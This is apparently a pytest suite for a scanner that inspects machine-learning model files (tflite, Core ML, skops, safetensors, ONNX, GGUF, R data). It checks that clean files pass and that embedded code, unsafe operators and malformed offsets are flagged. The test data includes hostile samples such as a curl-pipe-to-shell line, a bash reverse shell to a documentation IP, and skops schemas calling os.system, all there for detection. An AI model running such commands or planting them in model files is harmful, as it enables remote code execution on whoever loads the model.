"""The smaller formats of models: what their libraries write is clean, what is hidden in them is named."""

from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.inspect.lazy_readers import READERS
from scanner.inspect.look import HANDLERS
from tests.inspect.looking import assert_clean, details, look_at, look_at_file, symbols
from tests.inspect.messages import field

FORMATS = Path(__file__).parent / "models"
METADATA = "code-in-metadata"


@pytest.mark.parametrize(
    ("name", "format_id"),
    [
        ("plain.tflite", "tflite"),
        ("plain.mlmodel", "coreml"),
        ("boosted.json", "xgboost"),
        ("boosted.ubj", "xgboost"),
        ("lightgbm.txt", "lightgbm"),
        ("flax.msgpack", "flax-msgpack"),
        ("frame.rds", "rds"),
        ("frame.rdata", "rds"),
        ("small.gguf", "gguf"),
        ("pipeline.skops", "skops"),
    ],
)
def test_what_the_libraries_write_is_clean(name: str, format_id: str) -> None:
    assert_clean(look_at_file(FORMATS / name), format_id)


def test_operators_that_a_tflite_model_asks_for(tmp_path: Path) -> None:
    found = look_at_file(FORMATS / "reads.tflite")
    assert symbols(found, "tensorflow-file-operation") == ["ReadFile"]
    assert symbols(look_at_file(FORMATS / "custom.tflite"), "custom-operator") == ["AuthorsOwn"]
    labels = io.BytesIO((FORMATS / "plain.tflite").read_bytes())
    with zipfile.ZipFile(labels, "a") as file:
        file.writestr("labels.txt", "cat\ndog\n")
    found = look_at(tmp_path, "model.tflite", labels.getvalue())
    assert {one.severity for one in found.sightings} <= {"low"}


def test_a_tflite_model_whose_offsets_lead_away_is_malformed(tmp_path: Path) -> None:
    data = bytearray((FORMATS / "plain.tflite").read_bytes())
    data[:4] = struct.pack("<I", 1 << 30)
    found = look_at(tmp_path, "model.tflite", bytes(data))
    assert [(one.rule, one.severity) for one in found.sightings] == [("malformed-model", "high")]
    assert found.coverage != "full"


def test_custom_layers_and_links_of_core_ml(tmp_path: Path) -> None:
    found = look_at_file(FORMATS / "custom.mlmodel")
    assert symbols(found, "custom-operator") == ["AuthorsLayer"]
    assert symbols(found, METADATA) == ["a parameter of the custom layer: a command for a shell"]
    link = field(1, field(1, field(1, b"../other.mlmodelc")) + field(2, field(1, b"/usr/lib:models")))
    inner = field(1, 5) + field(2, b"") + field(556, link)
    for data in (inner, field(1, 5) + field(2, b"") + field(202, field(1, inner))):
        found = look_at(tmp_path, "model.mlmodel", data)
        assert set(symbols(found, "path-outside-model")) == {"../other.mlmodelc", "/usr/lib"}


def test_operators_of_paddle_and_mxnet(tmp_path: Path) -> None:
    def program(operator: bytes) -> bytes:
        block = field(1, 0) + field(2, 0) + field(3, field(1, b"x")) + field(4, field(3, operator))
        return field(1, block)

    assert_clean(look_at(tmp_path, "model.pdmodel", program(b"matmul_v2")), "paddle")
    found = look_at(tmp_path, "model.pdmodel", program(b"py_func"))
    assert symbols(found, "graph-acting-operator") == ["py_func"]
    symbol: dict[str, Any] = {
        "nodes": [{"op": "null", "name": "data"}],
        "arg_nodes": [0],
        "heads": [[0, 0, 0]],
    }
    assert_clean(look_at(tmp_path, "model-symbol.json", json.dumps(symbol).encode()), "mxnet-symbol")
    symbol["nodes"].append(
        {"op": "Custom", "name": "own", "attrs": {"op_type": "x; import os; os.system('id')"}}
    )
    found = look_at(tmp_path, "model-symbol.json", json.dumps(symbol).encode())
    assert symbols(found, "custom-operator") == ["Custom"]
    assert symbols(found, METADATA)


XDR = b"X\n" + struct.pack(">III", 2, 0x030500, 0x020300)


def characters(text: str) -> bytes:
    return struct.pack(">II", 0x00040009, len(text)) + text.encode()


def symbol(text: str) -> bytes:
    return struct.pack(">I", 1) + characters(text)


def call(name: str, argument: str) -> bytes:
    value = struct.pack(">II", 0x10, 1) + characters(argument)
    return struct.pack(">I", 6) + symbol(name) + struct.pack(">I", 2) + value + struct.pack(">I", 254)


def promise(value: bytes, expression: bytes) -> bytes:
    environment = struct.pack(">I", 253)
    return struct.pack(">I", 5 | 0x400) + environment + value + expression


def test_promises_in_r_data_are_named_unless_they_are_kept(tmp_path: Path) -> None:
    unbound, kept = struct.pack(">I", 252), struct.pack(">IId", 14, 1, 2.0)
    found = look_at(tmp_path, "data.rds", XDR + promise(unbound, call("system", "echo loaded")))
    assert [(one.rule, one.symbol, one.severity) for one in found.sightings] == [
        ("r-promise", "system", None)
    ]
    assert "1 promise" in found.sightings[0].evidence
    assert_clean(look_at(tmp_path, "data.rds", XDR + promise(kept, call("lm", "y ~ x"))), "rds")
    found = look_at(tmp_path, "data.rds", XDR + call("system", "id"))
    assert [(one.rule, one.severity) for one in found.sightings] == [("r-promise", "low")]
    found = look_at(tmp_path, "data.rds", XDR + promise(unbound, call("system", "id"))[:-3])
    assert "truncated" in details(found)


def test_documents_with_something_behind_them_are_malformed(tmp_path: Path) -> None:
    for name in ("flax.msgpack", "boosted.ubj", "frame.rds"):
        import gzip

        data = (FORMATS / name).read_bytes()
        data = gzip.decompress(data) if data.startswith(b"\x1f\x8b") else data
        found = look_at(tmp_path, name, data + b"#!/bin/sh\n")
        assert [one for one in symbols(found, "malformed-model") if "bytes stand behind" in str(one)]


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("import os; os.system('id')", "a call of a shell"),
        ("x = eval('1')", "a call that runs text as code"),
        ("<script>alert(1)</script>", "a script of a page"),
        ("curl https://example.org/x | sh", "a command that fetches and runs"),
        ("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", "a shell over the network"),
        ("chmod 777 /tmp/x", "a destructive command"),
    ],
)
def test_code_in_metadata_is_named(tmp_path: Path, text: str, what: str) -> None:
    header = json.dumps({"__metadata__": {"note": text}}).encode()
    found = look_at(tmp_path, "model.safetensors", len(header).to_bytes(8, "little") + header)
    assert symbols(found, METADATA) == [f"the metadata note: {what}"]
    onnx = (
        field(1, 8)
        + field(7, field(2, b"g"))
        + field(8, field(2, 21))
        + field(14, field(1, b"note") + field(2, text.encode()))
    )
    assert symbols(look_at(tmp_path, "model.onnx", onnx), METADATA) == [f"note: {what}"]
    assert symbols(look_at(tmp_path, "model.engine", b"ftrt\0\0" + text.encode() + b"\0\0"), METADATA)
    assert symbols(look_at(tmp_path, "model.bin", b"\0\1\2" + text.encode() + b"\0\0"), METADATA)


@pytest.mark.parametrize(
    "text",
    [
        "Evaluates (eval) and executes on os, system and subprocess metrics.",
        "https://example.org/paper.pdf",
        "Trained with curl-sized batches; see the docs of wget.",
        "import numpy as np",
        "The operating system: Linux. Shell: bash",
    ],
)
def test_prose_in_metadata_is_not(tmp_path: Path, text: str) -> None:
    header = json.dumps({"__metadata__": {"description": text}}).encode()
    assert_clean(
        look_at(tmp_path, "m.safetensors", len(header).to_bytes(8, "little") + header), "safetensors"
    )


def skops(schema: Any) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("schema.json", json.dumps(schema))
    return made.getvalue()


def node(module: str, name: str, loader: str, content: Any = None, **more: Any) -> dict[str, Any]:
    return {"__module__": module, "__class__": name, "__loader__": loader, "content": content, **more}


@pytest.mark.parametrize(
    ("schema", "severity"),
    [
        (node("os", "system", "FunctionNode"), "critical"),
        (node("builtins", "eval", "TypeNode"), "critical"),
        (node("builtins", "dict", "DictNode", {"a": node("subprocess", "Popen", "ObjectNode")}), "critical"),
        (node("operator", "call", "OperatorFuncNode", attrs=[]), "critical"),
        (node("os", "system", "OperatorFuncNode", attrs=[]), "critical"),
        (node("operator", "attrgetter", "OperatorFuncNode", attrs=['"__globals__"']), "high"),
        (
            node("a.b", "C", "MethodNode", {"func": "__init__", "obj": node("a.b", "C", "ObjectNode")}),
            "critical",
        ),
        (
            node("sklearn.base", "C", "MethodNode", {"func": "f", "obj": node("os", "popen", "ObjectNode")}),
            "critical",
        ),
        (
            node("sklearn.base", "clone", "FunctionNode", {"module_path": "os", "function": "system"}),
            "critical",
        ),
        (node("authors.own", "Estimator", "ObjectNode"), "low"),
    ],
)
def test_what_a_skops_schema_names(tmp_path: Path, schema: Any, severity: str) -> None:
    found = look_at(tmp_path, "model.skops", skops(schema))
    assert severity in [one.severity for one in found.sightings if one.rule == "skops-untrusted-type"]


def test_real_skops_files_that_act() -> None:
    found = look_at_file(FORMATS / "payload.skops")
    assert [(one.symbol, one.severity) for one in found.sightings] == [("posix.system", "critical")]
    found = look_at_file(FORMATS / "attribute.skops")
    assert [one.severity for one in found.sightings] == ["high"]


def test_a_torchserve_manifest_names_its_handler(tmp_path: Path) -> None:
    def archive(**model: str) -> bytes:
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as file:
            file.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": model}))
        return made.getvalue()

    assert look_at(tmp_path, "m.mar", archive(handler="image_classifier")).sightings == []
    found = look_at(tmp_path, "m.mar", archive(handler="own.py:handle", requirementsFile="requirements.txt"))
    assert symbols(found, "bundled-handler") == ["own.py:handle", "requirements.txt"]
    found = look_at(tmp_path, "m.mar", archive(handler="../../own.py"))
    assert symbols(found, "path-outside-model") == ["../../own.py"]


def test_tensors_of_gguf_that_lie_in_one_another_are_malformed(tmp_path: Path) -> None:
    data = (FORMATS / "small.gguf").read_bytes()
    place = data.index(b"packed") + 6 + 4 + 16 + 4
    found = look_at(tmp_path, "m.gguf", data[:place] + bytes(8) + data[place + 8 :])
    assert [(one.rule, one.severity) for one in found.sightings] == [("malformed-model", "high")]


SEEDS = sorted(path for path in FORMATS.iterdir() if path.stat().st_size < 4096)


@settings(max_examples=250, deadline=None)
@given(st.sampled_from(SEEDS), st.data())
def test_no_changed_model_makes_a_reader_raise(
    tmp_path_factory: pytest.TempPathFactory, seed: Path, data: st.DataObject
) -> None:
    changed = bytearray(seed.read_bytes())
    for _ in range(data.draw(st.integers(1, 4))):
        changed[data.draw(st.integers(0, len(changed) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(changed)))
    found = look_at(
        tmp_path_factory.getbasetemp(), seed.name, bytes(changed[:cut] if cut % 3 == 0 else changed)
    )
    assert "cannot be read (" not in details(found)
    assert "the look failed" not in details(found)


MAGICS = [
    b"TFL3",
    b"\x81\xa6params",
    b"X\n\0\0\0\2\0\3\5\0\0\2\3\0",
    b"{L" + bytes(7) + b"\x07learner",
    b"ET12",
]


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(MAGICS), st.binary(max_size=200), st.sampled_from([0, 4]))
def test_no_bytes_behind_a_magic_number_make_a_reader_raise(
    tmp_path_factory: pytest.TempPathFactory, magic: bytes, data: bytes, before: int
) -> None:
    found = look_at(tmp_path_factory.getbasetemp(), "model.bin", bytes(before) + magic + data)
    assert "cannot be read (" not in details(found)


def test_every_reader_is_a_handler() -> None:
    assert set(READERS) <= set(HANDLERS)


def gguf(keys: bytes = b"", count: int = 0, tensors: bytes = b"", tensor_count: int = 0) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, tensor_count, count) + keys + tensors + bytes(64)


KEY = struct.pack("<Q", 1) + b"k"
TENSOR = struct.pack("<Q", 1) + b"w"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("m.gguf", gguf(KEY + struct.pack("<IQ", 8, 1 << 60), 1)),
        ("m.gguf", gguf(KEY + struct.pack("<IIQ", 9, 8, 1 << 50), 1)),
        ("m.gguf", gguf(KEY + struct.pack("<IIQ", 9, 4, 1 << 50), 1)),
        ("m.gguf", gguf(tensors=TENSOR + struct.pack("<IQQIQ", 2, 1 << 40, 1 << 40, 0, 0), tensor_count=1)),
        ("m.gguf", gguf(tensors=TENSOR + struct.pack("<IQIQ", 1, 4, 0, 1 << 62), tensor_count=1)),
        ("m.gguf", gguf(tensors=TENSOR + struct.pack("<IQIQ", 1, 4, 9999, 0), tensor_count=1)),
        ("m.safetensors", struct.pack("<Q", 1 << 60) + b"{}" + bytes(50)),
        ("m.safetensors", struct.pack("<Q", 4) + b"  {}"),
        ("m.safetensors", struct.pack("<Q", 2) + b"{}" + b"behind"),
        ("m.safetensors", struct.pack("<Q", 8002) + b"{}" + b" " * 8000),
        (
            "m.npy",
            b"\x93NUMPY\x01\x00"
            + struct.pack("<H", 80)
            + b"{'descr': '<f8', 'fortran_order': False, 'shape': (9999999999, 9999999999)}".ljust(80)
            + bytes(16),
        ),
    ],
)
def test_numbers_that_no_writer_writes_are_malformed(tmp_path: Path, name: str, data: bytes) -> None:
    found = look_at(tmp_path, name, data)
    assert [one.rule for one in found.sightings][:1] == ["malformed-model"]
    assert {one.severity for one in found.sightings} <= {"high", None}
